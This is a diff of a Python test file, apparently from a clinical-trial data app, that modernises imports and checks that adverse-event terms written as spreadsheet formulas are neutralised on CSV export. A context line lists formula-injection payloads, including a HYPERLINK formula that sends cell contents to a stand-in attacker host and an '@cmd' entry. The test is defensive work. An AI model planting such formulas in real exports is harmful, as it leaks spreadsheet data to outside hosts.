@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import csv
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import pytest
 from sync_helpers import TODAY, import_one, register
 
-from sle_desktop.sponsor import operations as sponsor, tabular
+from sle_desktop.sponsor import operations as sponsor
+from sle_desktop.sponsor import tabular
 
 # (the forms strip leading whitespace, so a tab or carriage return at the start is pinned by test_cells only)
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+SUM(A1:A9)", "-2+3", "@cmd"]
@@ -35,7 +36,7 @@ def test_adverse_event_terms_that_are_formulas_reach_the_csv_neutralised(make_si
         safety.record_adverse_event(inv, subject, safety.AdverseEventForm(
             term=term, onset_date=date(2026, 5, 20), grade=3, serious=True, serious_criteria=("hospitalisation",),
             relationship="unlikely", action_taken="hospitalised", outcome="recovering",
-            aware_at=datetime(2026, 5, 20, 9, 0, tzinfo=timezone.utc)), today=TODAY)
+            aware_at=datetime(2026, 5, 20, 9, 0, tzinfo=UTC)), today=TODAY)
     register(site, sponsor_db)
     import_one(sponsor_db, sponsor_keys, site.export().path)
     out = tmp_path / "csv"
